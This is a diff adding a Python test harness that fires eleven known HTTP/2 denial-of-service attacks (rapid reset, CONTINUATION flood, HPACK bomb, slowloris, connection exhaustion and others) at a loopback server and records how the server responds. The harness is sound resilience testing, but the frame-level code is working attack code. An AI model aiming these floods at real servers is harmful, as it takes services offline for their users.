@@ -1,0 +1,328 @@
+"""Known HTTP/2 attacks against a server on loopback, one per run, each bounded in count and time.
+Prints one JSON object: what the server answered (GOAWAY code, RST_STREAM codes, whether and when
+it closed the connection) and, where asked, how long a well-behaved client took to be served
+while the attack was going on.
+
+Usage: attack.py NAME PORT [--good]      (NAME: see ATTACKS below)
+"""
+import json
+import resource
+import select
+import socket
+import struct
+import sys
+import time
+
+import h2.config
+import h2.connection
+import h2.events
+from hpack import Encoder
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
+END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
+ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 6: "FRAME_SIZE_ERROR",
+          7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}
+
+
+def frame(kind, flags, stream, payload=b""):
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def settings(pairs=()):
+    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))
+
+
+def request(encoder, stream, path="/html", method="GET", extra=(), end_stream=True):
+    block = encoder.encode([(":method", method), (":scheme", "http"), (":authority", "attack"), (":path", path)] + list(extra))
+    return frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), stream, block)
+
+
+class Peer:
+    """A raw connection: sends bytes, and reads and parses whatever the server sends."""
+
+    def __init__(self, port, preface=True, window=None):
+        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
+        self.buffer = b""
+        self.goaway = None
+        self.resets = []
+        self.closed_at = None
+        self.frames = 0
+        self.started = time.monotonic()
+        if preface:
+            pairs = [(4, window)] if window is not None else []
+            self.sock.sendall(PREFACE + settings(pairs))
+
+    def send(self, data):
+        """Sends; False once the server has closed or stopped reading for good."""
+        try:
+            self.sock.sendall(data)
+            return True
+        except (BrokenPipeError, ConnectionResetError, socket.timeout, OSError):
+            return False
+
+    def read(self, seconds):
+        """Reads what arrives within `seconds`, stopping early at end of stream."""
+        deadline = time.monotonic() + seconds
+        while self.closed_at is None:
+            left = deadline - time.monotonic()
+            if left <= 0:
+                return
+            ready, _, _ = select.select([self.sock], [], [], left)
+            if not ready:
+                return
+            try:
+                chunk = self.sock.recv(1 << 16)
+            except (ConnectionResetError, OSError):
+                chunk = b""
+            if not chunk:
+                self.closed_at = time.monotonic() - self.started
+                return
+            self.buffer += chunk
+            self.parse()
+
+    def parse(self):
+        while len(self.buffer) >= 9:
+            length = int.from_bytes(self.buffer[:3], "big")
+            if len(self.buffer) < 9 + length:
+                return
+            kind, stream = self.buffer[3], int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
+            payload = self.buffer[9:9 + length]
+            self.buffer = self.buffer[9 + length:]
+            self.frames += 1
+            if kind == GOAWAY and self.goaway is None:
+                last, code = struct.unpack(">II", payload[:8])
+                self.goaway = {"code": ERRORS.get(code, code), "last_stream": last & 0x7FFFFFFF,
+                               "debug": payload[8:].decode("utf-8", "replace"), "at": round(time.monotonic() - self.started, 2)}
+            elif kind == RST_STREAM:
+                self.resets.append(ERRORS.get(struct.unpack(">I", payload)[0], "?"))
+
+    def result(self):
+        return {"goaway": self.goaway, "resets": len(self.resets), "reset_codes": sorted(set(self.resets)),
+                "closed": self.closed_at is not None, "closed_at": None if self.closed_at is None else round(self.closed_at, 2)}
+
+
+def good_client(port):
+    """A well-behaved client (Python h2): GET /json; seconds until the whole response, or None."""
+    start = time.monotonic()
+    try:
+        sock = socket.create_connection(("127.0.0.1", port), timeout=10)
+        conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True))
+        conn.initiate_connection()
+        conn.send_headers(1, [(":method", "GET"), (":scheme", "http"), (":authority", "good"), (":path", "/json")], end_stream=True)
+        sock.sendall(conn.data_to_send())
+        body = b""
+        while True:
+            data = sock.recv(65536)
+            if not data:
+                return None
+            for event in conn.receive_data(data):
+                if isinstance(event, h2.events.DataReceived):
+                    body += event.data
+                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
+                if isinstance(event, h2.events.StreamEnded) and b"9113" in body:
+                    sock.close()
+                    return round(time.monotonic() - start, 3)
+            sock.sendall(conn.data_to_send())
+    except OSError:
+        return None
+
+
+def rapid_reset(port):
+    peer, encoder = Peer(port), Encoder()
+    sent = 0
+    for i in range(3000):
+        stream = 2 * i + 1
+        if not peer.send(request(encoder, stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))):
+            break
+        sent += 1
+        if i % 100 == 0:
+            peer.read(0)
+    peer.read(5)
+    return dict(peer.result(), streams_sent=sent)
+
+
+def continuation_flood(port):
+    peer, encoder = Peer(port), Encoder()
+    block = encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "attack"), (":path", "/html")])
+    peer.send(frame(HEADERS, END_STREAM, 1, block))
+    sent = 0
+    junk = frame(CONTINUATION, 0, 1, b"\x40\x01a\x01b" * 3276)  # 16 380 octets of literal fields
+    while sent < 20_000_000 and peer.goaway is None and peer.closed_at is None:
+        if not peer.send(junk):
+            break
+        sent += len(junk)
+        peer.read(0)
+    peer.read(5)
+    return dict(peer.result(), octets_sent=sent)
+
+
+def unread_flood(port, make, count):
+    """Sends `count` frames that each ask for an answer, never reading one."""
+    peer = Peer(port)
+    peer.sock.settimeout(30)
+    sent = 0
+    batch = b"".join(make(i) for i in range(1000))
+    start = time.monotonic()
+    while sent < count:
+        if not peer.send(batch):
+            break
+        sent += 1000
+    stalled = round(time.monotonic() - start, 2)
+    peer.read(15)
+    return dict(peer.result(), frames_sent=sent, sending_took=stalled)
+
+
+def ping_flood(port):
+    return unread_flood(port, lambda i: frame(PING, 0, 0, struct.pack(">Q", i)), 2_000_000)
+
+
+def settings_flood(port):
+    return unread_flood(port, lambda i: settings([(3, 100)]), 2_000_000)
+
+
+def reset_flood(port):
+    encoder = Encoder()
+    # Each stream is malformed (an uppercase field name, RFC 9113 §8.2.1): the server must answer
+    # RST_STREAM PROTOCOL_ERROR.
+    def bad(i):
+        return request(encoder, 2 * i + 1 + 2000 * bad.round, extra=[("X-Upper", "1")])
+    bad.round = 0
+
+    peer = Peer(port)
+    peer.sock.settimeout(30)
+    sent = 0
+    start = time.monotonic()
+    while sent < 500_000:
+        batch = b"".join(bad(i) for i in range(1000))
+        bad.round += 1
+        if not peer.send(batch):
+            break
+        sent += 1000
+    stalled = round(time.monotonic() - start, 2)
+    peer.read(15)
+    return dict(peer.result(), frames_sent=sent, sending_took=stalled)
+
+
+def empty_frames(port):
+    peer, encoder = Peer(port), Encoder()
+    peer.send(request(encoder, 1, path="/upload", method="POST", end_stream=False))
+    sent = 0
+    for _ in range(20):
+        if not peer.send(frame(DATA, 0, 1) * 500):
+            break
+        sent += 500
+        peer.read(0.05)
+        if peer.goaway:
+            break
+    peer.read(5)
+    return dict(peer.result(), frames_sent=sent)
+
+
+def zero_length_headers(port):
+    peer, encoder = Peer(port), Encoder()
+    peer.send(request(encoder, 1, extra=[("", "empty name")]))
+    peer.send(request(encoder, 3, extra=[("x-empty", "")]))
+    peer.read(2)
+    # The empty value is allowed (§8.2.1); the empty name is not: stream 1 reset, stream 3 answered.
+    answered = peer.frames
+    return dict(peer.result(), frames_received=answered)
+
+
+def window_of_one(port):
+    peer, encoder = Peer(port, window=1), Encoder()
+    for i in range(100):
+        peer.send(request(encoder, 2 * i + 1))
+    peer.read(1)
+    alive_after_1s = peer.closed_at is None
+    # Dribble: one octet of window every 0.2 s on stream 1 for a while, then nothing at all.
+    for _ in range(10):
+        peer.send(frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))
+        peer.read(0.2)
+    peer.read(10)
+    return dict(peer.result(), alive_after_1s=alive_after_1s)
+
+
+def hpack_bomb(port):
+    peer = Peer(port)
+    big = "a" * 4000
+    # One big literal with incremental indexing (into the table as 62), then a block that refers to
+    # it 1 000 times: 4 MB of header list from a 1-kilobyte block.
+    name = b"x-bomb"
+    value = big.encode()
+    literal = b"\x40" + bytes([len(name)]) + name + b"\x7f" + encode_int(len(value) - 127) + value
+    encoder = Encoder()
+    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, encoder.encode(
+        [(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/json")]) + literal))
+    bomb = encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/json")])
+    bomb += b"\xbe" * 1000  # indexed 62, 1 000 times
+    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 3, bomb))
+    peer.read(3)
+    return peer.result()
+
+
+def encode_int(value):
+    out = b""
+    while value >= 128:
+        out += bytes([(value & 0x7F) | 0x80])
+        value >>= 7
+    return out + bytes([value])
+
+
+def slowloris(port):
+    """Three slow clients: silent, a preface one octet at a time, a header block never finished."""
+    silent = Peer(port, preface=False)
+    dribble = Peer(port, preface=False)
+    unfinished = Peer(port)
+    encoder = Encoder()
+    block = encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "slow"), (":path", "/html")])
+    unfinished.send(frame(HEADERS, END_STREAM, 1, block))
+    start = time.monotonic()
+    i = 0
+    while time.monotonic() - start < 12:
+        if i < len(PREFACE):
+            dribble.send(PREFACE[i:i + 1])
+        unfinished.send(frame(CONTINUATION, 0, 1, b""))  # an empty fragment: no progress
+        i += 1
+        for peer in (silent, dribble, unfinished):
+            peer.read(0.05)
+        time.sleep(0.4)
+        if all(p.closed_at is not None for p in (silent, dribble, unfinished)):
+            break
+    return {"silent": silent.result(), "dribble": dribble.result(), "unfinished": unfinished.result()}
+
+
+def many_connections(port, count=10_000):
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 200), hard))
+    socks, failed = [], 0
+    start = time.monotonic()
+    for _ in range(count):
+        try:
+            s = socket.socket()
+            s.setblocking(False)
+            s.connect_ex(("127.0.0.1", port))
+            socks.append(s)
+        except OSError:
+            failed += 1
+    opened = round(time.monotonic() - start, 2)
+    time.sleep(1)
+    during = good_client(port)
+    for s in socks:
+        s.close()
+    time.sleep(0.5)
+    after = good_client(port)
+    return {"opened": len(socks), "failed": failed, "opening_took": opened, "good_client_during": during,
+            "good_client_after": after}
+
+
+ATTACKS = {name: fn for name, fn in globals().items() if callable(fn) and name in (
+    "rapid_reset", "continuation_flood", "ping_flood", "settings_flood", "reset_flood", "empty_frames",
+    "zero_length_headers", "window_of_one", "hpack_bomb", "slowloris", "many_connections")}
+
+if __name__ == "__main__":
+    name, port = sys.argv[1], int(sys.argv[2])
+    result = ATTACKS[name](port)
+    if "--good" in sys.argv:
+        result["good_client_after"] = good_client(port)
+    print(json.dumps(result), flush=True)
